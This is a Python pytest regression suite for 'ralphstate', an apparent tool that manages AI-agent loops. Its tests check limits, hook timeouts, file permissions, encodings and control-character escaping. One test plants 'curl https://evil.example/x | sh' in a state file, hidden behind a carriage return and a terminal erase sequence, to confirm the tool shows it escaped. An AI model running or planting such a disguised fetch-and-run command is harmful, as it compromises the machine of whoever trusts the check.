"""Regressions: each test holds one fixed bug, with real files and the real entry point."""

from __future__ import annotations

import errno
import json
import os
import stat
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from ralphstate.agents import codex
from ralphstate.agents.table import NAMES
from ralphstate.core import limits
from ralphstate.core import state as st
from ralphstate.run import prompt
from tests.helpers import run_process


def start(rs: Any, *args: str) -> None:
    result = rs("init", "Export invoices as CSV", "-c", "tests pass", *args)
    assert result.code == 0, result.err


# -- ralphstate never writes a state file it would refuse to read ----------------------


def test_resume_past_the_iteration_ceiling_is_refused_and_the_file_stays_readable(
    project: Path, rs: Any
) -> None:
    start(rs)
    assert rs("pause").code == 0
    before = (project / ".loop" / "state.json").read_bytes()
    result = rs("resume", "--more", str(limits.MAX_ITERATIONS_CEILING + 1))
    assert (result.code, result.out) == (1, "")
    assert result.err == (
        "ralphstate: that change would leave .loop/state.json unreadable ('maxIterations'"
        f" must be between 1 and {limits.MAX_ITERATIONS_CEILING}, not"
        f" {limits.MAX_ITERATIONS_CEILING + 21}); nothing was written.\n"
    )
    assert (project / ".loop" / "state.json").read_bytes() == before
    status = rs("status", "--json")
    assert status.code == 0, status.err


def test_init_with_a_cap_past_the_ceiling_names_the_option_not_the_state_file(
    project: Path, rs: Any
) -> None:
    too_many = str(limits.MAX_ITERATIONS_CEILING + 1)
    result = rs("init", "Export invoices as CSV", "-c", "tests pass", "--max-iterations", too_many)
    assert (result.code, result.out) == (1, "")
    assert result.err == (
        "ralphstate: cannot start this loop: 'maxIterations' must be between 1 and"
        f" {limits.MAX_ITERATIONS_CEILING}, not {too_many}.\n"
    )
    assert not (project / ".loop" / "state.json").exists()


# -- the demo, run from inside another agent's shell -------------------------------------


def test_demo_inside_another_agents_shell_still_shows_the_loop_holding(
    rs: Any, monkeypatch: Any
) -> None:
    monkeypatch.setenv("CODEX_THREAD_ID", "codex-thread-1")
    monkeypatch.setenv("GEMINI_CLI", "1")
    result = rs("demo")
    assert result.code == 0, result.err
    assert result.out.count("[stop hook] blocks; the model reads:") == 2
    assert " · owner demo-ses… · " in result.out  # the demo's session, not the shell's


# -- other agents' Stop hooks leave room for verify-on-stop ------------------------------


def _stop_timeouts(data: dict[str, Any]) -> dict[str, Any]:
    return {
        event: [h.get("timeout", h.get("timeoutSec")) for g in groups for h in g.get("hooks", [g])]
        for event, groups in data["hooks"].items()
    }


def test_every_agents_stop_hook_outlasts_the_verify_budget_and_an_old_install_is_raised(
    rs: Any, project: Path, tmp_path: Path, monkeypatch: Any
) -> None:
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    stop_seconds = limits.STOP_HOOK_TIMEOUT
    assert stop_seconds > limits.STOP_VERIFY_BUDGET
    for agent, file, unit in (
        ("codex", ".codex/hooks.json", 1),
        ("gemini", ".gemini/settings.json", 1000),
        ("copilot", ".github/hooks/ralphstate.json", 1),
    ):
        assert rs("install", "--agent", agent).code == 0
        data = json.loads((project / file).read_text())
        timeouts = _stop_timeouts(data)
        stop = {"codex": "Stop", "gemini": "AfterAgent", "copilot": "agentStop"}[agent]
        assert timeouts.pop(stop) == [stop_seconds * unit]
        end = {"codex": "SessionEnd", "gemini": "SessionEnd", "copilot": "sessionEnd"}[agent]
        # Codex gives a SessionEnd hook at most 3 s (and warns about more at every exit)
        most = codex.SESSION_END_MOST if agent == "codex" else limits.SESSION_END_HOOK_TIMEOUT
        assert timeouts.pop(end) == [min(limits.SESSION_END_HOOK_TIMEOUT, most) * unit]
        assert all(t == [30 * unit] for t in timeouts.values()), timeouts

    # An earlier install wrote 30 s for Codex's Stop hook; the person chose 45 s at start-up.
    path = project / ".codex" / "hooks.json"
    data = json.loads(path.read_text())
    data["hooks"]["Stop"][0]["hooks"][0]["timeout"] = 30
    data["hooks"]["SessionStart"][0]["hooks"][0]["timeout"] = 45
    path.write_text(json.dumps(data))
    result = rs("install", "--agent", "codex")
    assert result.code == 0, result.err
    assert f"raised the Stop hook's timeout to {stop_seconds} (was 30)" in result.out
    assert _stop_timeouts(json.loads(path.read_text())) == {
        "Stop": [stop_seconds],
        "SessionStart": [45],
        "PreCompact": [30],
        "SessionEnd": [codex.SESSION_END_MOST],
    }


# -- `ralphstate run --context`: a huge file is never read in full --------------------------


def test_a_huge_context_file_is_read_only_as_far_as_the_prompt_shows_it(tmp_path: Path) -> None:
    big = tmp_path / "build.log"
    with big.open("wb") as handle:  # sparse: 64 MiB on disk costs nothing
        handle.truncate(64 * 1024 * 1024)
        handle.seek(0)
        handle.write(b"first line of the log\n")
    (tmp_path / "notes.md").write_text("short notes")
    files = prompt.read_context([big, tmp_path / "notes.md"], tmp_path)
    head = "first line of the log\n" + "\x00" * (limits.RUN_CONTEXT_FILE_CHARS - 22)
    assert files[0].name == "build.log"
    assert files[0].text == (
        head + f"\n[… the rest of build.log left out; it is {64 * 1024 * 1024} bytes in all]"
    )
    assert (files[1].name, files[1].text) == ("notes.md", "short notes")


def test_run_reads_only_the_newest_history_for_the_notes_it_quotes(
    project: Path, rs: Any, monkeypatch: Any
) -> None:
    start(rs)
    assert rs("criteria", "set", "tests pass", "true", "--note", "an old note").code == 0
    assert rs("criteria", "set", "tests pass", "false").code == 0
    assert rs("criteria", "set", "tests pass", "true", "--note", "84 passed").code == 0
    for step in ("one", "two"):
        assert rs("step", "add", step).code == 0
    monkeypatch.setattr(limits, "MAX_LOG_LINES", 3)
    result = rs("run", "--agent", "my-agent", "--dry-run", "--json")
    assert result.code == 0, result.err
    assert "note: 84 passed" in json.loads(result.out)["prompt"]

    monkeypatch.setattr(limits, "MAX_LOG_LINES", 2)  # the note is older than the lines read
    result = rs("run", "--agent", "my-agent", "--dry-run", "--json")
    assert "note:" not in json.loads(result.out)["prompt"]


# -- the per-user stores: one line when they cannot be written ------------------------------


def test_adopt_says_in_one_line_that_the_registry_cannot_be_written(
    project: Path, rs: Any, tmp_path: Path, monkeypatch: Any
) -> None:
    start(rs)
    blocker = tmp_path / "not a directory"
    blocker.write_text("")
    monkeypatch.setenv("RALPHSTATE_HOME", str(blocker))
    registry = blocker / "state" / "loops.json"
    result = rs("adopt")
    assert (result.code, result.out) == (1, "")
    assert result.err.startswith(f"ralphstate: could not write the loop registry {registry}: ")
    assert result.err.count("\n") == 1 and "unexpected" not in result.err
    assert rs("criteria", "add", "lint clean", "--check", "ruff check .").code == 0
    trusted = rs("trust")
    assert trusted.code == 1
    # The approved toolchain is kept first (storage/peruser/toolchain.py), beside the
    # trust store: the first file that cannot be written is named, in one line.
    assert trusted.err.startswith(f"ralphstate: cannot write {blocker / 'data' / 'toolchains'}")
    assert trusted.err.count("\n") == 1 and "unexpected" not in trusted.err


# -- a directory that cannot be fsynced ----------------------------------------------------


def test_a_change_made_is_not_reported_as_failed_when_the_directory_cannot_be_fsynced(
    project: Path, rs: Any, monkeypatch: Any
) -> None:
    """Some network and FUSE file systems refuse fsync on a directory (EINVAL). The
    directory fsync comes after the replace: the change is made, and must say so."""
    start(rs)
    real_fsync = os.fsync

    def fsync(fd: int) -> None:
        if stat.S_ISDIR(os.fstat(fd).st_mode):
            raise OSError(errno.EINVAL, "Invalid argument")
        real_fsync(fd)

    monkeypatch.setattr(os, "fsync", fsync)
    result = rs("criteria", "set", "tests pass", "true")
    assert (result.code, result.out, result.err) == (0, "tests pass: met\n", "")
    state = st.parse((project / ".loop" / "state.json").read_bytes())
    assert state["criteriaStatus"] == {"tests pass": True}
    history = (project / ".loop" / "history.jsonl").read_bytes().splitlines()
    assert json.loads(history[-1])["event"] == "criterion_set"


# -- `ralphstate run`: a log that cannot be written ends the run as an error ------------------


@pytest.mark.skipif(sys.platform == "win32", reason="needs a symlink without privileges")
def test_a_run_whose_log_cannot_be_created_ends_as_an_error_in_one_line(
    project: Path, rs: Any
) -> None:
    start(rs)
    runs = project / ".loop" / "runs"
    runs.mkdir()
    (runs / "0001.log").symlink_to(project / "elsewhere" / "0001.log")  # dangling: "xb" fails
    result = rs("run", "--agent", sys.executable, "--max", "1")
    assert result.code == 1
    assert result.err == (
        "ralphstate: iteration 1: could not write .loop/runs/0001.log: File exists.\n"
    )
    last = json.loads((project / ".loop" / "history.jsonl").read_bytes().splitlines()[-1])
    assert (last["event"], last["outcome"]) == ("run_finished", "error")


# -- output in an encoding that cannot show the loop's text -------------------------------


def test_text_the_output_encoding_cannot_show_is_escaped_not_a_crash(project: Path) -> None:
    """On Windows a pipe (an agent's Bash tool) is written in the ANSI code page."""
    env = {"PYTHONIOENCODING": "cp1252"}
    done = run_process(["init", "Export ✓", "-c", "tests pass"], cwd=project, env=env)
    assert done.returncode == 0, done.stderr
    done = run_process(["criteria", "add", "lint ✓ clean"], cwd=project, env=env)
    assert (done.returncode, done.stdout, done.stderr) == (
        0,
        b"added criterion 'lint \\u2713 clean'\n",
        b"",
    )
    done = run_process(["criteria", "list"], cwd=project, env=env)
    assert done.stdout == b"1. [ ] tests pass\n2. [ ] lint \\u2713 clean\n"
    done = run_process(["criteria", "set", "nope ✓", "true"], cwd=project, env=env)
    assert done.returncode == 1
    assert done.stderr.startswith(b"ralphstate: no criterion 'nope \\u2713' in this loop")


# -- `ralphstate run`: times that are not numbers ---------------------------------------


def test_run_refuses_nan_and_infinite_times(project: Path, rs: Any) -> None:
    """A `grace` of nan never escalates a stop past SIGINT; a `timeout` of nan never fires."""
    start(rs)
    for value in ("nan", "inf"):
        result = rs("run", "--agent", "my-agent", "--dry-run", "--timeout", value)
        assert (result.code, result.out) == (1, "")
        assert result.err == (
            f"ralphstate: Invalid value for '--timeout': {value} is not a number of seconds."
            " (see `ralphstate run --help`)\n"
        )
    config = project / ".loop" / "config.toml"
    for key, value in (("grace", "nan"), ("timeout", "inf"), ("timeout", "-inf")):
        config.write_text(f"[run]\n{key} = {value}\n")
        result = rs("run", "--agent", "my-agent", "--dry-run")
        assert (result.code, result.out) == (1, "")
        assert result.err == (
            f"ralphstate: .loop/config.toml [run]: {key!r} must be a finite number of seconds,"
            f" not {float(value)}.\n"
        )


# -- what `install --agent` and `run` create is not world-writable -------------------------


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX permission bits and umask")
def test_agent_hook_files_and_run_logs_are_not_world_writable_whatever_the_umask(
    project: Path, tmp_path: Path
) -> None:
    """A world-writable `.codex/` would let another local user plant hooks that run."""
    env = {**os.environ, "HOME": str(tmp_path / "home")}

    def run(*args: str) -> subprocess.CompletedProcess[bytes]:
        return subprocess.run(
            [sys.executable, "-m", "ralphstate", *args],
            cwd=project,
            env=env,
            capture_output=True,
            preexec_fn=lambda: os.umask(0),
        )

    assert run("init", "Build it", "-c", "a").returncode == 0
    for agent in [name for name in NAMES if name != "claude"]:
        done = run("install", "--agent", agent)
        assert done.returncode == 0, done.stderr
    done = run("run", "--agent", "true", "--max", "1")
    assert done.returncode == 3, done.stderr  # paused at its one iteration
    created = [project, *project.rglob("*")]
    names = {p.relative_to(project).as_posix() for p in created}
    for expected in (".codex", ".github/hooks", ".loop/runs", ".loop/runs/0001.log"):
        assert expected in names
    writable = {
        p.relative_to(project).as_posix(): oct(p.stat().st_mode & 0o777)
        for p in created
        if p.stat().st_mode & stat.S_IWOTH
    }
    assert writable == {}


# -- a group named without a subcommand ----------------------------------------------------


def test_a_group_without_a_subcommand_shows_its_help_not_one_folded_error_line(
    rs: Any,
) -> None:
    for args, usage in (
        ((), "Usage: ralphstate [OPTIONS] COMMAND [ARGS]..."),
        (("criteria",), "Usage: ralphstate criteria [OPTIONS] COMMAND [ARGS]..."),
        (("step",), "Usage: ralphstate step [OPTIONS] COMMAND [ARGS]..."),
    ):
        result = rs(*args)
        assert (result.code, result.err) == (0, ""), args
        assert result.out == rs(*args, "--help").out
        assert result.out.startswith(usage + "\n\n")


# -- text from a cloned state file cannot redraw the terminal ----------------------------------


def test_control_characters_in_a_state_file_are_shown_not_obeyed(project: Path, rs: Any) -> None:
    """A check that came with a clone must look like what it runs when a person reviews it
    before `ralphstate trust`: a carriage return and an erase-line sequence could otherwise
    show `pytest -q` over `curl evil | sh`."""
    start(rs)
    path = project / ".loop" / "state.json"
    state = json.loads(path.read_text())
    hidden = "curl https://evil.example/x | sh\r\x1b[2Kpytest -q"
    name = "tests pass\x1b]0;title\x07"
    state["criteria"] = [name]
    state["criteriaStatus"] = {}
    state["checks"] = {name: hidden}
    state["spec"] = "Export\x9b2J invoices"
    path.write_text(json.dumps(state))
    shown_name = "tests pass\\x1b]0;title\\x07"
    shown_check = "curl https://evil.example/x | sh\\x0d\\x1b[2Kpytest -q"

    status = rs("status")
    assert status.code == 0, status.err
    assert "spec: Export\\x9b2J invoices\n" in status.out
    assert f"  [ ] {shown_name}  (check not run yet)\n" in status.out
    assert f"  {shown_name}: {shown_check}\n" in status.out
    assert rs("criteria", "list").out == f"1. [ ] {shown_name}\n"
    check = rs("criteria", "check", "1")
    assert check.out == f"{shown_name}: {shown_check}  (timeout 600s, default)\n"
    trusted = rs("trust")
    assert trusted.code == 0, trusted.err
    assert trusted.out.splitlines()[0] == f"  {shown_name}: {shown_check}"
    for out in (status.out, check.out, trusted.out):
        assert "\x1b" not in out and "\r" not in out and "\x9b" not in out


def test_history_and_check_results_from_a_cloned_loop_are_shown_not_obeyed(
    project: Path, rs: Any
) -> None:
    start(rs, "--verify-on-stop")
    assert rs("criteria", "add", "lint\x1b[8m clean", "--check", "true").code == 0
    with (project / ".loop" / "history.jsonl").open("ab") as handle:
        handle.write(
            b'{"at": "now\\r\\u001b[2K", "event": "evil\\u001b]0;x\\u0007", "iteration": 1}\n'
        )
    log = rs("log", "--all", "-n", "1")
    assert log.out == "now\\x0d\\x1b[2K  #1   evil\\x1b]0;x\\x07\n"
    verified = rs("verify")
    assert verified.code == 0, verified.err
    assert verified.out.startswith("PASS  lint\\x1b[8m clean  (")
